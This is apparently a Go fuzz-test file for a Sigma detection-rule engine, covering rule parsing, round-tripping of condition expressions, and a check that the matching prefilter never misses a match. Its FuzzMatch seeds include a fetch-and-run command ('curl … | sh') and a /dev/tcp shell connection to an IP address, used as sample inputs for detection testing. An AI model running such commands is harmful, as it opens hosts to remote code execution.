package sigma

import (
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// seedRules adds every rule file of testdata and of the built-in pack.
func seedRules(f *testing.F) {
	for _, pat := range []string{"testdata/*.yml", "../pack/rules/*.yml"} {
		files, _ := filepath.Glob(pat)
		for _, p := range files {
			data, err := os.ReadFile(p)
			if err != nil {
				f.Fatal(err)
			}
			f.Add(data)
		}
	}
}

func FuzzParse(f *testing.F) {
	seedRules(f)
	f.Add([]byte("title: t\nlogsource: {product: linux}\ndetection:\n  sel: [a, b]\n  condition: sel\n"))
	f.Fuzz(func(t *testing.T, data []byte) {
		rs, _ := Parse("fuzz.yml", data)
		for _, r := range rs {
			if r.Detection == nil {
				continue
			}
			tab := NewFieldTable()
			m, err := Compile(r, identity, tab, Options{Placeholders: map[string][]string{"x": {"1"}}})
			if err != nil {
				continue
			}
			_ = m.Match(&mapEvent{tab: tab, vals: ev{}})
		}
	})
}

func FuzzCondition(f *testing.F) {
	for _, s := range []string{"sel", "sel and not filter", "1 of sel_* and (a or not b)", "all of them", "((a))", "not not a", "a | count() > 5"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		e, err := ParseCondition(s)
		if err != nil {
			return
		}
		// the printed form parses again to the same tree
		e2, err := ParseCondition(e.String())
		if err != nil {
			t.Fatalf("%q printed as %q: %v", s, e.String(), err)
		}
		if e2.String() != e.String() {
			t.Fatalf("%q: %q then %q", s, e.String(), e2.String())
		}
	})
}

func FuzzMatch(f *testing.F) {
	data, err := os.ReadFile("testdata/modifiers.yml")
	if err != nil {
		f.Fatal(err)
	}
	rs, err := Parse("modifiers.yml", data)
	if err != nil {
		f.Fatal(err)
	}
	tab := NewFieldTable()
	m, err := Compile(rs[0], identity, tab, Options{})
	if err != nil {
		f.Fatal(err)
	}
	f.Add("curl http://x | sh", "/bin/bash", "/usr/bin/x", "Root", "10.1.1.1", "2000")
	f.Add("sh -c 'exec 3<>/dev/tcp/1.2.3.4/80'", "/bin/sh", "", "", "", "")
	f.Fuzz(func(t *testing.T, cmd, img, parent, user, ip, port string) {
		e := ev{"CommandLine": one(cmd), "Image": one(img), "ParentImage": one(parent),
			"User": one(user), "DestinationIp": one(ip), "DestinationPort": one(port),
			"message": one(cmd), "ParentCommandLine": strings.Fields(cmd)}
		got := m.Match(&mapEvent{tab: tab, vals: e})
		// the prefilter must never reject an event the rule matches
		if got && m.Prefilter {
			hit := false
			for _, a := range m.Atoms {
				v := (&mapEvent{tab: tab, vals: e}).Field(a.Field)
				if v == nil {
					continue
				}
				for _, s := range v.Lower {
					if strings.Contains(asciiLower(s), a.Lit) {
						hit = true
					}
				}
			}
			if !hit {
				t.Fatalf("matched but no atom of %v occurs in %q", m.Atoms, e)
			}
		}
	})
}

func asciiLower(s string) string {
	b := []byte(s)
	for i, c := range b {
		if 'A' <= c && c <= 'Z' {
			b[i] = c + 32
		}
	}
	return string(b)
}
